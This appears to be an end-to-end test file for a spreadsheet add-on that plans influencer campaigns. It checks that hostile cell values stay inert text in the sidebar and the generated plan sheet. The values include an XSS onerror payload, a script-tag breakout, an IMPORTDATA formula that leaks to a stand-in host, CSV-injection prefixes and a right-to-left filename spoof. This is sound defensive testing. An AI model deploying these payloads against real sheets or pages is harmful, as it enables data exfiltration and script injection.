import { beforeAll, describe, expect, test } from 'vitest';
import { visitBefore, visitor, workbench } from '../visitor';
import { brief, button, cellsOf, frame, plan, readNewSheet, readShown, strategy } from './sidebar';

const TEXTS = [
  '<img src=x onerror="parent.postMessage(1,\'*\')">',
  '</script><script>document.title="x"</script>',
  '<!-- not a comment',
  '=IMPORTDATA("https://example.com/leak")',
  '+1',
  '-1-1',
  '@ada',
  '\ttab',
  'abc\u202Egnp.exe',
  '\u200Fright to left',
  'x'.repeat(50_000),
  '👩‍🚀🏳️‍🌈',
  '\uD800 alone \uDC00',
  '__proto__',
  'constructor',
  '{count} of {people}',
];

/** Each text as a name, a niche and a country, and some in headers; all cost little enough to be chosen. */
const ROSTER = [
  [
    'Name',
    'Platform',
    'Followers',
    'Avg likes',
    'Avg comments',
    'Avg views',
    'Fee (USD)',
    'Niche',
    'Country',
    '<b>bold</b>',
  ],
  ...TEXTS.map((text, i) => [text, 'Instagram', 5_000 + i, 400, 12, 2_000, 50 + i, text, text, text]),
  ['Big one', 'Instagram', 500_000, 9_000, 100, 90_000, 5_000, 'food', 'DE', ''],
];

describe('hostile cells', () => {
  visitBefore(beforeAll);

  test('are text in the sidebar, and nothing else', async () => {
    await strategy().waitFor();
    await visitor.page.evaluate((rows) => {
      const sheet = window.workbench?.app.getActiveSpreadsheet().insertSheet('Hostile');
      const range = sheet?.getRange(1, 1, rows.length, rows[0]?.length ?? 1);
      range?.setNumberFormats(rows.map((row) => row.map((cell) => (typeof cell === 'string' ? '@' : '0'))));
      range?.setValues(rows);
    }, ROSTER);
    await readShown();
    await visitor.sidebar.getByText('influencers read from “Hostile”').waitFor();
    await strategy().waitFor();
    await brief({ Budget: '2000' });
    await plan('Micro plan').check();
    await visitor.sidebar.getByText('worth up to').first().waitFor();
    await frame().evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
    });
    const shown = await visitor.sidebar.locator('.shortlist li strong').allTextContents();
    expect(shown).toContain(TEXTS[0]);
    expect(shown).toContain('</script><script>document.title="x"</script>');
    expect(shown).toContain('{count} of {people}');
    const found = await frame().evaluate(() => ({
      images: document.images.length,
      bold: document.querySelectorAll('b').length,
      scripts: document.body.querySelectorAll('script').length,
      title: document.title,
      isWider: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    }));
    expect(found).toEqual({ images: 0, bold: 0, scripts: 1, title: 'Rostermix', isWider: false });
  });

  test('are text in the plan sheet, and change nothing else in the file', async () => {
    const before = await cellsOf('Hostile');
    await button('Write a plan sheet').click();
    await visitor.sidebar.getByText('The plan is in the new sheet').waitFor();
    const formulas = await visitor.page.evaluate(
      () =>
        window.workbench?.app
          .getActiveSpreadsheet()
          .getSheetByName('Rostermix plan')
          ?.getDataRange()
          .getFormulas()
          .flat()
          .filter((formula) => formula !== '') ?? ['no sheet'],
    );
    expect(formulas).toEqual([]);
    const cells = (await cellsOf('Rostermix plan')).flat();
    for (const text of ['=IMPORTDATA("https://example.com/leak")', '+1', '-1-1', '@ada']) expect(cells).toContain(text);
    expect(await cellsOf('Hostile')).toEqual(before);
  });

  test('are refused no columns, and no other formula arises beside them', async () => {
    const before = await cellsOf('Hostile');
    const width = before[0]?.length ?? 0;
    await button('Add columns of live formulas').click();
    await visitor.sidebar.getByText('Added in').waitFor();
    const formulas = await visitor.page.evaluate(() => {
      const sheet = window.workbench?.app.getActiveSpreadsheet().getSheetByName('Hostile');
      return sheet?.getDataRange().getFormulas().flat().filter(Boolean) ?? [];
    });
    expect(formulas.map((formula) => formula.replace(/\(.*/, ''))).toEqual([
      '=INFLUENCER_TIER',
      '=ENGAGEMENT_RATE',
      '=ENGAGEMENT_GRADE',
      '=ENGAGEMENT_VS_ROSTER',
    ]);
    expect((await cellsOf('Hostile')).map((row) => row.slice(0, width))).toEqual(before);
  });

  test('make the page ask nobody outside', () => {
    const outside = visitor.requests.filter(
      (url) => !url.startsWith(workbench.address) && !/^(data|blob|about):/.test(url),
    );
    expect(outside).toEqual([]);
  });

  test('cannot make it ask anybody: the page’s own policy forbids every request', async () => {
    const asked = await frame().evaluate(() =>
      fetch('https://example.com/').then(
        () => 'answered',
        () => 'refused',
      ),
    );
    expect(asked).toBe('refused');
    expect(visitor.errors.splice(0).join()).toContain('Content Security Policy');
  });
});

describe('a roster with 50,000 blank rows below', () => {
  visitBefore(beforeAll);

  test('is read as if they were not there', async () => {
    await readNewSheet('Sparse', [
      ['Handle', 'Followers', 'Fee (USD)'],
      ['@a', 5_000, 90],
      ['@b', 500_000, 4_000],
    ]);
    await visitor.page.evaluate(() => {
      const sheet = window.workbench?.app.getActiveSheet();
      sheet?.insertRowsAfter(sheet.getMaxRows(), 50_000).getRange('A51000').setValue(' ');
    });
    await button('Read again').first().click();
    await visitor.sidebar.getByText('2 influencers read from “Sparse”.').waitFor();
    await strategy().waitFor();
  });
});
